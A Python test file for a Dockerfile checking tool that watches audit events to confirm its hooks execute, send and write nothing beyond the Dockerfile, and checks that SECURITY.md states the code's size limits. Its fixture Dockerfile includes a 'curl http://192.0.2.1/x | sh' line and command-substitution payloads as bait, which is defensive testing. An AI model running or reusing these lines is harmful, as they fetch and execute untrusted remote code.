"""The promises in SECURITY.md that can be watched: what a hook executes, sends, reads and writes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from copy_link import regular_files
from copy_link.build_context.ignore_file import MAXIMUM_BYTES
from copy_link.survey import archive, blobs, layers, tar_streams
from tests.support.project import ROOT

# Runs a hook, and writes to a file every audit event (docs.python.org/3/library/audit_events.html) that is no import.
WATCHED = """
import json, os, sys

events = []
is_on = False

def watch(event, arguments):
    if is_on and event.split(".")[0] in WATCHED_MODULES and event not in HARMLESS:
        events.append([event, [str(one) for one in arguments if isinstance(one, (str, bytes, int))]])

WATCHED_MODULES = ("open", "os", "shutil", "socket", "subprocess", "pty", "ctypes", "urllib", "http", "ftplib")
HARMLESS = ("os.listdir", "os.scandir", "os.listxattr", "os.getxattr")
sys.addaudithook(watch)
hook, log, *arguments = sys.argv[1:]
main = __import__(f"copy_link.{hook}", fromlist=["main"]).main
is_on = True
try:
    status = main(arguments)
finally:
    is_on = False
    with open(log, "w") as stream:
        json.dump(events, stream)
sys.exit(status)
"""

DOCKERFILE = """\
FROM mycorp/base:1
RUN curl http://192.0.2.1/x | sh; $(touch /tmp/executed); `touch /tmp/executed`
ADD http://192.0.2.1/x archive.tar /srv/
COPY conf link /srv/
FROM debian:12
COPY --from=192.0.2.1/x /a /srv/
COPY f /srv/f
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    found = tmp_path / "project"
    (found / "conf").mkdir(parents=True)
    (found / "Dockerfile").write_text(DOCKERFILE)
    (found / ".dockerignore").write_text("x\n")
    (found / "archive.tar").write_bytes(b"\x1f\x8b")
    (found / "conf" / "secret").write_text("")
    (tmp_path / "outside").write_text("")
    (found / "link").symlink_to("../outside")
    (found / "base.mtree").write_text("#mtree\n# on: scratch\n")
    (found / ".copy-link.toml").write_text('[base-images]\n"mycorp/*" = "base.mtree"\n')
    return found


@pytest.mark.parametrize(
    ("hook", "options"),
    [("check", []), ("check", ["--explain"]), ("check", ["--output-format=sarif"]), ("fix", []), ("fix", ["--diff"])],
    ids=lambda value: " ".join(value) if isinstance(value, list) else value,
)
def test_a_hook_executes_and_sends_nothing_and_writes_only_dockerfiles(
    project: Path, hook: str, options: list[str]
) -> None:
    log = project.parent / "log"
    before = {path: path.read_bytes() for path in project.rglob("*") if path.is_file()}
    subprocess.run(
        [sys.executable, "-c", WATCHED, hook, str(log), *options, "Dockerfile"],
        cwd=project,
        env={**os.environ, "PYTHONPATH": str(ROOT / "hooks"), "PYTHONDONTWRITEBYTECODE": "1"},
        capture_output=True,
        check=False,
    )
    events = json.loads(log.read_text())
    opened = [Path(project, arguments[0]) for event, arguments in events if event == "open" and arguments]
    others = {event for event, _ in events} - {"open"}
    own = [path for path in opened if path.is_relative_to(project.parent)]
    assert opened
    # Python's own modules, and the descriptions of the package.
    libraries = [Path(sys.prefix), Path(sys.base_prefix), ROOT / "hooks", Path("/dev/null")]
    assert [path for path in opened if path not in own and not any(map(path.is_relative_to, libraries))] == []
    # An open file may be opened by its number.
    names = {path.relative_to(project).parts[0] for path in own if not path.name.isdigit()}
    written = {name for name in names if name.startswith(".copy-link-")}
    assert names - written <= {"Dockerfile", ".dockerignore", "archive.tar", "base.mtree", ".copy-link.toml"}
    assert bool(written) is (hook == "fix" and not options)
    assert others == ({"os.mkdir", "os.rename", "os.rmdir", "os.remove", "os.chmod"} & others if written else set())
    after = {path: path.read_bytes() for path in project.rglob("*") if path.is_file()}
    assert {path.name for path in after if after[path] != before.get(path)} == ({"Dockerfile"} if written else set())
    assert after.keys() == before.keys()
    assert not Path("/tmp/executed").exists()


def test_the_page_has_the_figures_of_the_code() -> None:
    page = (ROOT / "SECURITY.md").read_text(encoding="utf-8")
    figures = {
        f"{regular_files.LARGEST_DOCKERFILE >> 20} MiB for a Dockerfile",
        f"{regular_files.LARGEST_CONFIGURATION >> 20} MiB for a configuration",
        f"{regular_files.LARGEST_DESCRIPTION >> 20} MiB for a description",
        f"{MAXIMUM_BYTES >> 10} KiB for an ignore file",
        f"{blobs.LARGEST_UNCOMPRESSED >> 30} GiB, or {blobs.LARGEST_FACTOR} times the compressed size",
        f"| JSON document | {blobs.LARGEST_JSON >> 20} MiB |",
        f"| nested indices | {archive.DEEPEST_INDEX} levels;",
        f"| layers of an image | {archive.MOST_LAYERS} |",
        f"| files in an archive | {blobs.MOST_FILES:,} |",
        f"| members, and paths, in a layer | {layers.MOST_PATHS:,} |",
        f"| path in a layer | {layers.LONGEST_PATH:,} characters, {layers.DEEPEST_PATH} levels |",
        f"| header of a member (long names, attributes) | {tar_streams.LARGEST_HEADER >> 20} MiB |",
    }
    words = " ".join(page.split())
    assert {figure for figure in figures if figure not in words} == set()
